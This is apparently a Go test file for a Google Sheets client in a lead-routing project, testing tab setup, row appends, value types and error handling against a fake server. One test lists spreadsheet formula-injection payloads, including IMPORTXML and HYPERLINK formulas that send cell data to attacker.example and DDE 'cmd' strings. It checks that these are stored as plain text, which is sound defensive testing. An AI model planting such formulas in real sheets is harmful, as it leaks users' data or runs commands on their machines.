package gsheets_test

import (
	"context"
	"errors"
	"net/http"
	"reflect"
	"strings"
	"testing"
	"time"

	"google.golang.org/api/googleapi"
	"google.golang.org/api/option"
	"google.golang.org/api/sheets/v4"

	"github.com/leadrouter/leadrouter/shared/gsheets"
	"github.com/leadrouter/leadrouter/shared/gsheets/fakesheets"
	"github.com/leadrouter/leadrouter/shared/sheet"
)

// newBook starts a fake Sheets server and returns a Book on it through the
// real client.
func newBook(tb testing.TB, opts ...gsheets.Option) (*fakesheets.Server, *gsheets.Book) {
	tb.Helper()

	fake := fakesheets.New()
	tb.Cleanup(fake.Close)
	return fake, bookOn(tb, fake, opts...)
}

// bookOn returns a Book on an existing fake through the real client.
func bookOn(tb testing.TB, fake *fakesheets.Server, opts ...gsheets.Option) *gsheets.Book {
	tb.Helper()

	svc, err := sheets.NewService(context.Background(), option.WithEndpoint(fake.URL()), option.WithoutAuthentication())
	if err != nil {
		tb.Fatalf("sheets.NewService: %v", err)
	}
	book, err := gsheets.New(svc, fakesheets.SpreadsheetID, opts...)
	if err != nil {
		tb.Fatalf("gsheets.New: %v", err)
	}
	return book
}

var leadsTab = sheet.Tab{Name: "Leads", Headers: []string{"Lead ID", "Received", "Company", "Potential", "Notes"}}

func ensure(t *testing.T, book *gsheets.Book, tabs ...sheet.Tab) {
	t.Helper()
	if err := book.EnsureTabs(context.Background(), tabs); err != nil {
		t.Fatalf("EnsureTabs: %v", err)
	}
}

func TestEnsureTabsCreatesLayout(t *testing.T) {
	fake, book := newBook(t)

	ensure(t, book, sheet.Layout...)

	got := fake.Sheets()
	if len(got) != len(sheet.Layout)+1 {
		t.Fatalf("sheets = %v, want Sheet1 and the %d layout tabs", got, len(sheet.Layout))
	}
	for _, tab := range sheet.Layout {
		cells := fake.Cells(tab.Name)
		if len(cells) != 1 || len(cells[0]) != len(tab.Headers) {
			t.Errorf("tab %q row 1 = %v, want its %d headers", tab.Name, cells, len(tab.Headers))
			continue
		}
		if cells[0][len(tab.Headers)-1].Value != tab.Headers[len(tab.Headers)-1] {
			t.Errorf("tab %q last header = %v, want %q", tab.Name, cells[0][len(tab.Headers)-1].Value, tab.Headers[len(tab.Headers)-1])
		}
	}
}

func TestEnsureTabsTwiceWritesNothing(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, sheet.Layout...)
	fake.ResetCounts()

	ensure(t, book, sheet.Layout...)

	if got := fake.Count(fakesheets.Writes...); got != 0 {
		t.Errorf("write requests on the second run = %d, want 0", got)
	}
	if got := fake.Count(); got != 2 {
		t.Errorf("requests on the second run = %d, want 2 (spreadsheets.get and one batchGet)", got)
	}
}

func TestEnsureTabsKeepsRepColumns(t *testing.T) {
	fake, book := newBook(t)
	fake.AddSheet("leads")
	if err := fake.SetValues("leads", "A1", [][]any{
		{"My Notes", " company ", "Lead ID"},
		{"call back", "Acme", "L-1"},
	}); err != nil {
		t.Fatal(err)
	}

	ensure(t, book, leadsTab)

	cells := fake.Cells("leads")
	wantRow1 := []any{"My Notes", " company ", "Lead ID", "Received", "Potential", "Notes"}
	for i, want := range wantRow1 {
		if i >= len(cells[0]) || cells[0][i].Value != want {
			t.Errorf("row 1 column %d = %v, want %q", i, cells[0], want)
		}
	}
	if cells[1][0].Value != "call back" {
		t.Errorf("A2 = %v, want the rep's note untouched", cells[1][0].Value)
	}
	if len(fake.Sheets()) != 2 {
		t.Errorf("sheets = %v, want no second Leads tab (names ignore case)", fake.Sheets())
	}
}

func TestEnsureTabsKeepsRenamedLeadID(t *testing.T) {
	tests := []struct {
		name    string
		grid    [][]any
		wantErr bool
	}{
		{"data rows rejected", [][]any{{"Lead", "Company"}, {}, {"L-1", "Acme"}}, true},
		{"header row only gets the column", [][]any{{"Lead", "Company"}}, false},
		{"blank rows only get the column", [][]any{{"Lead", "Company"}, {}, {"", ""}}, false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fake, book := newBook(t)
			fake.AddSheet("Leads")
			if err := fake.SetValues("Leads", "A1", tc.grid); err != nil {
				t.Fatal(err)
			}
			before := fake.Text("Leads")

			err := book.EnsureTabs(context.Background(), []sheet.Tab{leadsTab})

			if !tc.wantErr {
				if err != nil {
					t.Fatalf("EnsureTabs() = %v, want nil", err)
				}
				if got := fake.Cell("Leads", "C1").Value; got != "Lead ID" {
					t.Errorf("C1 = %v, want the added Lead ID header", got)
				}
				return
			}
			if !errors.Is(err, sheet.ErrInvalid) {
				t.Errorf("EnsureTabs() = %v, want an ErrInvalid error", err)
			}
			if err != nil && !strings.Contains(err.Error(), `rename its header back to "Lead ID"`) {
				t.Errorf("EnsureTabs() = %q, want it to say to rename the header back", err)
			}
			if after := fake.Text("Leads"); !reflect.DeepEqual(after, before) {
				t.Errorf("Leads = %q after the rejected EnsureTabs, want it unchanged as %q", after, before)
			}
		})
	}
}

func TestEnsureTabsWidensNarrowTab(t *testing.T) {
	fake, book := newBook(t)
	fake.AddSheet("Wide")
	first := make([]any, 26)
	for i := range first {
		first[i] = "Column " + string(rune('A'+i))
	}
	if err := fake.SetValues("Wide", "A1", [][]any{first}); err != nil {
		t.Fatal(err)
	}

	ensure(t, book, sheet.Tab{Name: "Wide", Headers: []string{"Column A", "Extra 1", "Extra 2"}})

	if got := fake.Cell("Wide", "AB1").Value; got != "Extra 2" {
		t.Errorf("AB1 = %v, want Extra 2 past the original 26 columns", got)
	}
}

func TestEnsureTabsRejectsBadList(t *testing.T) {
	tests := []struct {
		name string
		tabs []sheet.Tab
	}{
		{name: "empty name", tabs: []sheet.Tab{{Name: " "}}},
		{name: "duplicate name", tabs: []sheet.Tab{{Name: "Leads"}, {Name: "LEADS"}}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, book := newBook(t)

			err := book.EnsureTabs(context.Background(), tt.tabs)

			if !errors.Is(err, sheet.ErrInvalid) {
				t.Errorf("error = %v, want ErrInvalid", err)
			}
		})
	}
}

func TestAppendUnderMovedColumns(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	if err := fake.MoveColumn("Leads", 0, 3); err != nil {
		t.Fatal(err)
	}

	err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-1", "Company": "Acme"}})
	if err != nil {
		t.Fatalf("Append: %v", err)
	}

	// Row 1 is now Received, Company, Potential, Lead ID, Notes.
	if got := fake.Cell("Leads", "D2").Value; got != "L-1" {
		t.Errorf("D2 = %v, want L-1 under the moved Lead ID header", got)
	}
	if got := fake.Cell("Leads", "B2").Value; got != "Acme" {
		t.Errorf("B2 = %v, want Acme", got)
	}
	if got := fake.Cell("Leads", "A2"); !got.Empty() {
		t.Errorf("A2 = %+v, want empty", got)
	}
}

func TestAppendAfterBlankRows(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	if err := fake.SetValues("Leads", "A2", [][]any{{"L-1"}, {nil}, {nil}, {"L-2"}, {nil, nil, nil, nil, "rep note only"}}); err != nil {
		t.Fatal(err)
	}

	err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-3"}})
	if err != nil {
		t.Fatalf("Append: %v", err)
	}

	if got := fake.Cell("Leads", "A3"); !got.Empty() {
		t.Errorf("A3 = %+v, want the blank row left blank", got)
	}
	if got := fake.Cell("Leads", "E6").Value; got != "rep note only" {
		t.Errorf("E6 = %v, want the rep's row in place", got)
	}
	if got := fake.Cell("Leads", "A7").Value; got != "L-3" {
		t.Errorf("A7 = %v, want L-3 below the last row with data", got)
	}
}

func TestAppendBlankFirstColumn(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, sheet.Tab{Name: "Leads", Headers: []string{"Notes", "Lead ID"}})
	if err := fake.SetValues("Leads", "B2", [][]any{{"L-1"}}); err != nil {
		t.Fatal(err)
	}

	err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-2"}})
	if err != nil {
		t.Fatalf("Append: %v", err)
	}

	if got := fake.Cell("Leads", "B3").Value; got != "L-2" {
		t.Errorf("B3 = %v, want L-2 under Lead ID", got)
	}
}

func TestAppendFormulaInjectionStaysText(t *testing.T) {
	payloads := []string{
		`=IMPORTXML("http://attacker.example/x", "//a")`,
		`=HYPERLINK("http://attacker.example/?leak="&A1, "Click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
		"=1+1",
		"0042",
		"1e3",
	}

	for _, payload := range payloads {
		t.Run(payload, func(t *testing.T) {
			fake, book := newBook(t)
			ensure(t, book, leadsTab)

			err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-1", "Company": payload}})
			if err != nil {
				t.Fatalf("Append: %v", err)
			}

			got := fake.Cell("Leads", "C2")
			if got.Value != payload {
				t.Errorf("value = %#v, want the literal text %#v", got.Value, payload)
			}
			if got.Formula != "" {
				t.Errorf("formula = %q, want none", got.Formula)
			}
			if got.InputOption != "RAW" {
				t.Errorf("input option = %q, want RAW", got.InputOption)
			}
		})
	}
}

func TestAppendValueTypes(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	received := time.Date(2026, 3, 14, 9, 26, 53, 0, time.UTC)

	err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-1", "Received": received, "Potential": 12500}})
	if err != nil {
		t.Fatalf("Append: %v", err)
	}

	if got := fake.Cell("Leads", "D2").Value; got != 12500.0 {
		t.Errorf("Potential = %#v, want the number 12500", got)
	}
	serial, _ := sheet.SerialDate(received)
	if got := fake.Cell("Leads", "B2").Value; got != serial {
		t.Errorf("Received = %#v, want the serial date %v", got, serial)
	}
	format, ok := fake.ColumnFormat("Leads", 1)
	if !ok || format.Type != "DATE_TIME" {
		t.Errorf("Received format = %+v, %v, want DATE_TIME", format, ok)
	}

	column, err := book.Column(context.Background(), "Leads", "received")
	if err != nil {
		t.Fatalf("Column: %v", err)
	}
	if len(column) != 1 || column[0] != "2026-03-14 09:26:53" {
		t.Errorf("Received column = %q, want the time shown as a date", column)
	}
}

func TestAppendFormatsDateColumnOnce(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	row := sheet.Row{"Lead ID": "L-1", "Received": time.Date(2026, 3, 14, 9, 0, 0, 0, time.UTC)}

	for i := 0; i < 3; i++ {
		if err := book.Append(context.Background(), "Leads", []sheet.Row{row}); err != nil {
			t.Fatalf("Append %d: %v", i+1, err)
		}
	}

	if got := fake.Count(fakesheets.MethodBatchUpdate); got != 2 {
		t.Errorf("batchUpdate requests = %d, want 2 (add the tab, format Received once)", got)
	}
}

func TestAppendRequestsPerCall(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	fake.ResetCounts()

	err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-1"}, {"Lead ID": "L-2"}})
	if err != nil {
		t.Fatalf("Append: %v", err)
	}

	if got := fake.Count(fakesheets.MethodValuesGet); got != 1 {
		t.Errorf("values.get requests = %d, want 1", got)
	}
	if got := fake.Count(fakesheets.MethodAppend); got != 1 {
		t.Errorf("values.append requests = %d, want 1", got)
	}
	for _, r := range fake.Requests() {
		if r.Method == fakesheets.MethodAppend && r.InsertDataOption != "INSERT_ROWS" {
			t.Errorf("insertDataOption = %q, want INSERT_ROWS", r.InsertDataOption)
		}
	}
}

func TestAppendRejectsBadRows(t *testing.T) {
	tests := []struct {
		name string
		row  sheet.Row
	}{
		{name: "unknown header", row: sheet.Row{"Lead ID": "L-1", "Shoe Size": "42"}},
		{name: "unsupported type", row: sheet.Row{"Lead ID": []string{"L-1"}}},
		{name: "not a number", row: sheet.Row{"Potential": 0.0 / zero()}},
		{name: "empty row", row: sheet.Row{}},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fake, book := newBook(t)
			ensure(t, book, leadsTab)
			fake.ResetCounts()

			err := book.Append(context.Background(), "Leads", []sheet.Row{tt.row})

			if !errors.Is(err, sheet.ErrInvalid) {
				t.Errorf("error = %v, want ErrInvalid", err)
			}
			if got := fake.Count(fakesheets.Writes...); got != 0 {
				t.Errorf("write requests = %d, want 0", got)
			}
		})
	}
}

func zero() float64 { return 0 }

func TestErrorKinds(t *testing.T) {
	tests := []struct {
		name    string
		status  int
		want    error
		wantAPI bool
	}{
		{name: "throttled", status: http.StatusTooManyRequests, want: sheet.ErrThrottled, wantAPI: true},
		{name: "server error", status: http.StatusInternalServerError, want: sheet.ErrUnavailable, wantAPI: true},
		{name: "unavailable", status: http.StatusServiceUnavailable, want: sheet.ErrUnavailable, wantAPI: true},
		{name: "permission denied", status: http.StatusForbidden, want: sheet.ErrInvalid, wantAPI: true},
		{name: "bad request", status: http.StatusBadRequest, want: sheet.ErrInvalid, wantAPI: true},
		{name: "not found", status: http.StatusNotFound, want: sheet.ErrNotFound, wantAPI: true},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fake, book := newBook(t)
			ensure(t, book, leadsTab)
			fake.FailEvery(1, tt.status, fakesheets.MethodAppend)

			err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": "L-1"}})

			if !errors.Is(err, tt.want) {
				t.Errorf("error = %v, want %v", err, tt.want)
			}
			var apiErr *googleapi.Error
			if errors.As(err, &apiErr) != tt.wantAPI {
				t.Errorf("error = %v, want *googleapi.Error in the chain", err)
			}
			if got := fake.Count(fakesheets.MethodAppend); got != 1 {
				t.Errorf("append requests = %d, want 1 (no retry inside the Book)", got)
			}
		})
	}
}

func TestSlowAnswerTimesOut(t *testing.T) {
	fake, book := newBook(t, gsheets.WithRequestTimeout(50*time.Millisecond))
	fake.SetDelay(5 * time.Second)

	_, err := book.Column(context.Background(), "Leads", "Lead ID")

	if !errors.Is(err, sheet.ErrUnavailable) {
		t.Errorf("error = %v, want ErrUnavailable", err)
	}
	if !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("error = %v, want context.DeadlineExceeded in the chain", err)
	}
}

func TestCancelledContextKeepsKind(t *testing.T) {
	_, book := newBook(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	_, err := book.Column(ctx, "Leads", "Lead ID")

	if !errors.Is(err, context.Canceled) {
		t.Errorf("error = %v, want context.Canceled", err)
	}
	if errors.Is(err, sheet.ErrUnavailable) {
		t.Errorf("error = %v, want no ErrUnavailable for a cancelled call", err)
	}
}

func TestMissingTabNotFound(t *testing.T) {
	_, book := newBook(t)

	_, err := book.Rows(context.Background(), "Leads")

	if !errors.Is(err, sheet.ErrNotFound) {
		t.Errorf("error = %v, want ErrNotFound", err)
	}
}

func TestMissingSpreadsheetNotFound(t *testing.T) {
	fake := fakesheets.New()
	t.Cleanup(fake.Close)
	svc, err := sheets.NewService(context.Background(), option.WithEndpoint(fake.URL()), option.WithoutAuthentication())
	if err != nil {
		t.Fatal(err)
	}
	book, err := gsheets.New(svc, "no-such-sheet")
	if err != nil {
		t.Fatal(err)
	}

	err = book.EnsureTabs(context.Background(), []sheet.Tab{leadsTab})

	if !errors.Is(err, sheet.ErrNotFound) {
		t.Errorf("error = %v, want ErrNotFound", err)
	}
}

func TestColumnMissingHeaderInvalid(t *testing.T) {
	_, book := newBook(t)
	ensure(t, book, leadsTab)

	_, err := book.Column(context.Background(), "Leads", "Shoe Size")

	if !errors.Is(err, sheet.ErrInvalid) {
		t.Errorf("error = %v, want ErrInvalid", err)
	}
}

func TestColumnAndRows(t *testing.T) {
	fake, book := newBook(t)
	ensure(t, book, leadsTab)
	if err := fake.SetValues("Leads", "A2", [][]any{{"L-1", nil, "Acme"}, {}, {nil, nil, nil, 300}}); err != nil {
		t.Fatal(err)
	}

	column, err := book.Column(context.Background(), "Leads", "Lead ID")
	if err != nil {
		t.Fatalf("Column: %v", err)
	}
	rows, err := book.Rows(context.Background(), "Leads")
	if err != nil {
		t.Fatalf("Rows: %v", err)
	}

	if len(column) != 3 || column[0] != "L-1" || column[1] != "" || column[2] != "" {
		t.Errorf("Lead ID column = %q, want [L-1 \"\" \"\"]", column)
	}
	if len(rows) != 3 {
		t.Fatalf("rows = %v, want 3 including the blank one", rows)
	}
	if rows[0]["Company"] != "Acme" {
		t.Errorf("row 1 = %v, want Company Acme", rows[0])
	}
	if len(rows[1]) != 0 {
		t.Errorf("row 2 = %v, want an empty map", rows[1])
	}
	if rows[2]["Potential"] != "300" {
		t.Errorf("row 3 = %v, want Potential 300", rows[2])
	}
}

func TestParseSpreadsheetID(t *testing.T) {
	tests := []struct {
		text    string
		want    string
		wantErr bool
	}{
		{text: "1AbC-d_9", want: "1AbC-d_9"},
		{text: "  1AbC  ", want: "1AbC"},
		{text: "https://docs.google.com/spreadsheets/d/1AbC-d_9/edit#gid=0", want: "1AbC-d_9"},
		{text: "https://docs.google.com/spreadsheets/d/1AbC?usp=sharing", want: "1AbC"},
		{text: "", wantErr: true},
		{text: "https://docs.google.com/spreadsheets/d/", wantErr: true},
		{text: "sheet id with spaces", wantErr: true},
		{text: "../etc", wantErr: true},
	}

	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			got, err := gsheets.ParseSpreadsheetID(tt.text)

			if (err != nil) != tt.wantErr {
				t.Fatalf("error = %v, want error %v", err, tt.wantErr)
			}
			if got != tt.want {
				t.Errorf("id = %q, want %q", got, tt.want)
			}
		})
	}
}

func TestNewRejectsMissingService(t *testing.T) {
	_, err := gsheets.New(nil, "1AbC")

	if err == nil {
		t.Error("New(nil) returned no error")
	}
}

func TestAppendReusesColumnRead(t *testing.T) {
	tests := []struct {
		name      string
		reuse     time.Duration
		wantReads int
	}{
		{name: "within the window", reuse: time.Minute, wantReads: 1},
		{name: "reuse disabled", reuse: 0, wantReads: 2},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			fake, book := newBook(t, gsheets.WithReadReuse(tt.reuse))
			ensure(t, book, leadsTab)
			fake.ResetCounts()

			if _, err := book.Column(context.Background(), "Leads", "Lead ID"); err != nil {
				t.Fatalf("Column: %v", err)
			}
			for _, id := range []string{"L-1", "L-2"} {
				if err := book.Append(context.Background(), "Leads", []sheet.Row{{"Lead ID": id}}); err != nil {
					t.Fatalf("Append %s: %v", id, err)
				}
			}

			// The second Append must read again, because the first changed the tab.
			if got := fake.Count(fakesheets.MethodValuesGet); got != tt.wantReads+1 {
				t.Errorf("values.get requests = %d, want %d", got, tt.wantReads+1)
			}
			if got := fake.Cell("Leads", "A3").Value; got != "L-2" {
				t.Errorf("A3 = %v, want L-2 below L-1", got)
			}
		})
	}
}
